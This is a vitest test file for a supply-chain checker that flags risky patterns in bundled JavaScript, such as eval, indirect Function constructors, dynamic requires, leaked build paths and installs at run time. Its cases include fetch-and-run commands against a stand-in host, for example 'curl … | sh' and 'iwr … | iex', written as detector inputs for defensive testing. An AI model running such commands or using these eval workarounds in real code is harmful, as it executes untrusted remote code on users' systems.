import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { root } from '../../actions.ts';
import { checkBundleCode } from '../../supply-chain/bundle-code.ts';

/** Writes a bundle with these files and returns its folder. */
function bundleOf(files: Record<string, string>): string {
  const folder = mkdtempSync(join(tmpdir(), 'bundle-code-'));
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), text);
  }
  return folder;
}

const check = (code: string) => checkBundleCode('one', bundleOf({ 'index.js': code }), []);

describe('checkBundleCode', () => {
  it('accepts modules of Node, files of the bundle, and commands that install nothing', () => {
    const files = {
      'index.js':
        "require('node:fs'); require('util'); require('./chunks/part.js'); Function.prototype.call;",
      'chunks/part.js':
        "require('../index.js'); import('node:os'); spawn('npm', ['--version']); x = 'curl -V';",
    };
    expect(checkBundleCode('one', bundleOf(files), [])).toEqual([]);
  });

  it.each(['extra.cjs', 'extra', 'chunks/extra.node'])(
    'rejects the file %s, which it cannot read',
    (name) => {
      const files = { 'index.js': `require('./${name}')`, [name]: "eval('1')" };
      expect(checkBundleCode('one', bundleOf(files), [])).toEqual([
        `${name} is a kind of file that these rules do not read`,
      ]);
    },
  );

  it.each([
    ['require(name)', 'loads a module whose name is computed'],
    ['require(`./${name}.js`)', 'loads a module whose name is computed'],
    ['const load = require; load(name)', 'loads a module whose name is computed'],
    ['module.require(name)', 'loads a module whose name is computed'],
    ['import(name)', 'loads a module whose name is computed'],
    ["require('kerberos')", 'loads kerberos, which is not in the bundle'],
    ["import('./absent.js')", 'loads ./absent.js, which is not in the bundle'],
    ["require('../index.js')", 'loads ../index.js, which is not in the bundle'],
    ["require('node:vm')", 'loads node:vm, which runs other code'],
    ["require('module')", 'loads module, which runs other code'],
    ['eval(text)', 'uses eval'],
    ["globalThis['eval'](text)", 'uses eval'],
    ['new Function(text)', 'uses Function'],
    ['Function(text)', 'uses Function'],
    ['x.createRequire(__filename)', 'uses createRequire'],
    ["process.getBuiltinModule('vm')", 'uses getBuiltinModule'],
    ["process.dlopen(module, 'x.node')", 'uses dlopen'],
    ["process.binding('fs')", 'calls binding'],
    ["require('node:module').register(name)", 'loads node:module, which runs other code'],
    ["new (require('node:worker_threads').Worker)(name)", 'loads node:worker_threads, which runs other code'],
    ["import('node:inspector/promises')", 'loads node:inspector/promises, which runs other code'],
    ["require('cluster')", 'loads cluster, which runs other code'],
    ["require('repl')", 'loads repl, which runs other code'],
    ['x = (() => {}).constructor', 'uses the constructor of a function'],
    ["''.at['constructor'](text)", 'calls constructor'],
    ['x = Object.getPrototypeOf(async function () {}).constructor', 'uses the constructor of a function'],
    ['x = new (async () => {}).constructor(text)', 'uses the constructor of a function'],
    ['x = function* () {}.__proto__.constructor', 'uses the constructor of a function'],
    ['fork(name)', 'calls fork'],
    ['(0, c.fork)(name, [])', 'calls fork'],
    ["spawn(process.execPath, ['-e', text])", 'starts Node with another script: node -e …'],
    ['spawn(process.execPath, args, { env })', 'starts Node with another script: node …'],
    ["spawn('node', ['--eval', text])", 'starts Node with another script: node --eval …'],
    ["exec('cd x && node -p 1')", 'starts Node with another script: cd x && node -p 1'],
    ["x = '/root/app/index.ts'", 'contains a path of the machine that built it: /root/a'],
    ["x = '/home/alice/app/index.ts'", 'contains a path of the machine that built it: /home/alice/'],
    ["x = 'file:///app/index.ts'", 'contains a path of the machine that built it: file:///'],
    [
      "x = 'C:\\\\Users\\\\alice\\\\app'",
      'contains a path of the machine that built it: C:\\\\Users\\\\alice\\',
    ],
    [`x = '${root}/index.ts'`, `contains a path of the machine that built it: ${root}`],
  ])('reports %s', (code, problem) => expect(check(code)).toEqual([`index.js ${problem}`]));

  it.each([
    ["spawn('npm', ['install', 'x'])", 'npm install x'],
    ["spawn('npm.cmd', ['ci'], {})", 'npm.cmd ci'],
    ["spawn('npm', ['--prefix', folder, 'install'])", 'npm --prefix … install'],
    ["spawn('npm', args); x = ['npm', 'exec', '--yes', name]", 'npm exec --yes …'],
    ["run(['pip3', 'install', name])", 'pip3 install …'],
    ["exec('cmd.exe /c npx.cmd cowsay')", 'cmd.exe /c npx.cmd cowsay'],
    ["exec('corepack enable')", 'corepack enable'],
    ["exec('uv pip install x')", 'uv pip install x'],
    ["exec('/usr/bin/python3 -m pip install x')", '/usr/bin/python3 -m pip install x'],
    ["exec('sudo apt-get -y install git')", 'sudo apt-get -y install git'],
    [
      "exec('DEBIAN_FRONTEND=noninteractive apt-get install git')",
      'DEBIAN_FRONTEND=noninteractive apt-get install git',
    ],
    ['exec(`cd ${folder} && npm i`)', 'cd … && npm i'],
    ['exec(`brew install ${name}`)', 'brew install …'],
    ["exec('npx cowsay')", 'npx cowsay'],
    ["exec('curl -sL https://a.example | sh')", 'curl -sL https://a.example | sh'],
    ["exec('curl -sL https://a.example | sudo -E bash -')", 'curl -sL https://a.example | sudo -E bash -'],
    ["exec('bash <(wget -qO- https://a.example)')", 'bash <(wget -qO- https://a.example)'],
    ["exec('iwr https://a.example | iex')", 'iwr https://a.example | iex'],
  ])('reports the installation in %s', (code, command) =>
    expect(check(code)).toEqual([`index.js installs at run time: ${command}`]),
  );

  it.each([
    'x = [a.constructor.name, class { constructor(a) { this.a = a; } }, new a.constructor(1)]',
    'x = [a.fork, a.binding, typeof a.constructor, a.constructor === Object]',
    "x = ['npm', 'node']; x = process.execPath; parse(process.execPath); f('node'); f('npm')",
    "x = ['npm is installed', 'go to the page and add', 'Install it with: npm install a', 'curl is missing']",
    "spawn('npm', ['run', 'install-x']); spawn('curl', [url]); exec('ls | sh'); spawn('git', ['add', '.'])",
  ])('accepts %s', (code) => expect(check(code)).toEqual([]));

  it('reports a script that cannot be read, and a path in a file that is no script', () => {
    expect(check('const = 1;')).toEqual([expect.stringContaining('index.js is not valid JavaScript')]);
    expect(checkBundleCode('one', bundleOf({ 'licenses.txt': `${root}/LICENSE` }), [])).toHaveLength(1);
  });

  it('accepts an exception for one file of one action only, and reports one that nothing needs', () => {
    const exception = { action: 'one', file: 'index.js', problem: 'uses eval', reason: 'r' };
    const folder = bundleOf({ 'index.js': 'eval(1)', 'other.js': 'eval(1)' });
    expect(checkBundleCode('one', folder, [exception])).toEqual(['other.js uses eval']);
    expect(checkBundleCode('two', folder, [exception])).toHaveLength(2);
    expect(checkBundleCode('one', bundleOf({ 'index.js': '1' }), [exception])).toEqual([
      'dist-check/supply-chain/bundle-code.ts has an exception that nothing needs: index.js uses eval',
    ]);
  });
});
